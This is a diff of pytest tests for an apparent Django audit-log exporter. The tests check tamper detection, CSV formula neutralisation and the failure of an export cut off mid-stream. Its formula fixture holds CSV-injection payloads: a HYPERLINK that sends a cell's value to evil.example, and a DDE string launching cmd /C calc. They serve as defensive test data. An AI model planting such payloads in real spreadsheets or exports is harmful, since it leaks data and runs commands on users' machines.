@@ -216,3 +216,237 @@ def test_the_vendor_command_writes_the_same_json_lines(tmp_path, tricky_trail):
     assert without_trailer(out.read_bytes())[0] == b"".join(expected)
     assert not (tmp_path / "all.jsonl.partial").exists()
     assert any(json.loads(line)["reason"] == TRICKY for line in expected)
+
+
+# --- the trailer and the offline check ---------------------------------------------------------
+
+
+def write_export(path, filters: export.AuditFilters, fmt: str, **fields: str):
+    with tenant_context(filters.practice_id):
+        path.write_bytes(b"".join(export.stream(filters, fmt, fields or None)))
+    return path
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_whole_export_passes_the_offline_check(tmp_path, practice, tricky_trail, fmt):
+    from django.core.management import call_command
+
+    filters = export.AuditFilters(practice_id=practice.pk)
+    path = write_export(tmp_path / f"a.{fmt}", filters, fmt, exported_by="t", request_id="r")
+    report = export.verify_file(path)
+    assert report.ok, report.problem
+    with tenant_context(practice):
+        expected = reference(filters)
+    assert report.fmt == fmt and report.rows == len(expected) >= 5
+    assert report.trailer["last"]["source"] in ("access", "change")
+    out = io.StringIO()
+    call_command("verify_audit", "--file", str(path), stdout=out)
+    assert "whole and unaltered" in out.getvalue()
+
+
+def _lines(path) -> list[bytes]:
+    return path.read_bytes().splitlines(keepends=True)
+
+
+def _tamperings(fmt: str):
+    """(what, change to the file's lines) that the offline check must notice."""
+    first = 1  # the CSV header or the JSON Lines manifest line
+
+    def swap(lines):
+        lines[first], lines[first + 1] = lines[first + 1], lines[first]
+
+    def drop(lines):
+        del lines[first + 1]
+
+    def edit(lines):
+        lines[first] = (
+            lines[first]
+            .replace(b"phi.read", b"phi.reed", 1)
+            .replace(b"phi.export", b"phi.exprt", 1)
+        )
+
+    def cut(lines):
+        del lines[-1]
+
+    def duplicate(lines):
+        lines.insert(first, lines[first])
+
+    def after(lines):
+        lines.append(lines[first])
+
+    return [
+        ("swap", swap),
+        ("drop", drop),
+        ("edit", edit),
+        ("cut", cut),
+        ("dup", duplicate),
+        ("after", after),
+    ]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_changed_reordered_or_cut_export_fails_the_offline_check(
+    tmp_path, practice, tricky_trail, fmt
+):
+    from django.core.management import CommandError, call_command
+
+    filters = export.AuditFilters(practice_id=practice.pk, action="phi.")
+    path = write_export(tmp_path / f"a.{fmt}", filters, fmt, exported_by="t", request_id="r")
+    original = _lines(path)
+    assert len(original) >= 5 and export.verify_file(path).ok
+    for what, change in _tamperings(fmt):
+        lines = list(original)
+        change(lines)
+        path.write_bytes(b"".join(lines))
+        report = export.verify_file(path)
+        assert not report.ok, what
+        with pytest.raises(CommandError, match="failed the check"):
+            call_command("verify_audit", "--file", str(path), stdout=io.StringIO())
+    path.write_bytes(b"".join(original)[:-40])  # cut off mid-trailer, as a dropped connection
+    assert not export.verify_file(path).ok
+
+
+FORMULAS = {
+    "reason": '=HYPERLINK("http://evil.example/?"&A1,"Open chart")',
+    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "actor_label": "+1-555-0100",
+    "request_id": "-2+3",
+    "api_client_id": "\tclient",
+    "object_type": "\rtype",
+    "details": None,
+}
+
+
+def test_formula_cells_are_neutralised_in_the_csv_and_the_raw_values_still_verify(
+    tmp_path, practice
+):
+    with audit_context(user_agent=FORMULAS["user_agent"], request_id=FORMULAS["request_id"]):
+        record(
+            practice,
+            reason=FORMULAS["reason"],
+            actor_label=FORMULAS["actor_label"],
+            api_client_id=FORMULAS["api_client_id"],
+            object_type=FORMULAS["object_type"],
+        )
+        record(practice, reason="'already quoted", actor_label="plain")
+    audit.seal_now()
+    filters = export.AuditFilters(practice_id=practice.pk)
+    path = write_export(tmp_path / "a.csv", filters, "csv")
+    data, _ = without_trailer(path.read_bytes())
+    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    evil = next(r for r in rows if r["reason"].endswith('"Open chart")'))
+    for column, value in FORMULAS.items():
+        if value is not None:
+            assert evil[column] == "'" + value, column  # a spreadsheet shows it as text
+            assert export.csv_raw_value(evil[column]) == value
+    quoted = next(r for r in rows if r["actor_label"] == "plain")
+    assert quoted["reason"] == "''already quoted"  # so that the rule can be undone exactly
+    # No cell of the file starts a formula.
+    assert not [c for r in rows for c in r.values() if c and c[0] in "=+-@\t\r"]
+    assert export.verify_file(path).ok  # hashed on the raw values; the verifier knows the rule
+    # JSON Lines carries the raw values.
+    with tenant_context(practice):
+        records = [json.loads(line) for line in jsonl(filters)]
+    assert (
+        next(r for r in records if r["actor_label"] == "+1-555-0100")["reason"]
+        == (FORMULAS["reason"])
+    )
+    # A file whose cell was turned back into a live formula fails the check.
+    path.write_bytes(path.read_bytes().replace(b"\"'=HYPERLINK", b'"=HYPERLINK'))
+    assert "not neutralised" in export.verify_file(path).problem
+
+
+# --- an export the database drops half-way ----------------------------------------------------
+
+BIG = "x" * (1 << 20)  # rows of a megabyte: more than the sockets between us and PostgreSQL hold
+
+
+def fat_trail(practice, rows: int = 40) -> None:
+    for n in range(rows):
+        record(practice, reason=f"{n} {BIG}")
+
+
+def terminate_the_copy() -> int:
+    """Terminate, as an operator or a crash would, the backend streaming an export's COPY."""
+    import time
+
+    from tests.superuser import superuser_connection
+
+    with superuser_connection() as su:
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline:
+            found = su.execute(
+                "SELECT pid FROM pg_stat_activity WHERE datname = current_database() "
+                "AND query LIKE 'COPY (%%' AND pid <> pg_backend_pid()"
+            ).fetchall()
+            if found:
+                su.execute("SELECT pg_terminate_backend(%s)", [found[0][0]])
+                return found[0][0]
+        raise AssertionError("no export's COPY is running")
+
+
+@pytest.mark.django_db(transaction=True)
+def test_an_export_command_cut_off_by_the_database_fails_loudly_and_leaves_only_a_partial_file(
+    tmp_path, practice, debug
+):
+    """`manage.py export_audit` in its own process, writing into a pipe we read at our pace (at
+    the path of its .partial file): after the first blocks, its COPY's backend is terminated."""
+    import os
+    import subprocess
+    import sys
+
+    from tests.workers import ROOT, test_database_url
+
+    fat_trail(practice)
+    out = tmp_path / "all.csv"
+    partial = tmp_path / "all.csv.partial"
+    os.mkfifo(partial)
+    env = {**os.environ, "DATABASE_URL": test_database_url(), "DEBUG": "true" if debug else ""}
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "manage.py",
+            "export_audit",
+            str(out),
+            "--format",
+            "csv",
+            "--reason",
+            "audit",
+        ],
+        cwd=ROOT,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    try:
+        with partial.open("rb") as pipe:
+            received = pipe.read(3 * len(BIG))
+            terminate_the_copy()
+            received += pipe.read()
+        _, stderr = proc.communicate(timeout=60)
+    finally:
+        proc.kill()
+    assert proc.returncode == 1
+    assert b"export failed after" in stderr and b"incomplete" in stderr
+    assert not out.exists() and not (tmp_path / "all.csv.manifest.json").exists()
+    assert len(received) > 2 * len(BIG)
+    (tmp_path / "received.csv").write_bytes(received)
+    assert "no trailer" in export.verify_file(tmp_path / "received.csv").problem
+    with cross_tenant("test"):
+        started = audit.AccessEvent.objects.get(action=AuditAction.AUDIT_EXPORT)
+        failed = audit.AccessEvent.objects.get(action=AuditAction.AUDIT_EXPORT_FAILED)
+    assert failed.object_ids == [str(started.pk)] and failed.reason == "audit"
+    assert failed.details["export_event_id"] == started.pk and failed.details["format"] == "csv"
+    assert 0 < failed.details["rows_sent"] < 40 and failed.details["error"]
+    assert failed.actor_label == "manage.py export_audit"
+    assert failed.request_id == started.request_id
+
+
+def test_the_export_command_writes_csv_with_debug_on_too(tmp_path, practice, tricky_trail, debug):
+    from django.core.management import call_command
+
+    out = tmp_path / "all.csv"
+    call_command("export_audit", str(out), "--format", "csv", "--reason", "r", stdout=io.StringIO())
+    report = export.verify_file(out)
+    assert report.ok and report.rows >= 7, report.problem
+    assert not (tmp_path / "all.csv.partial").exists()
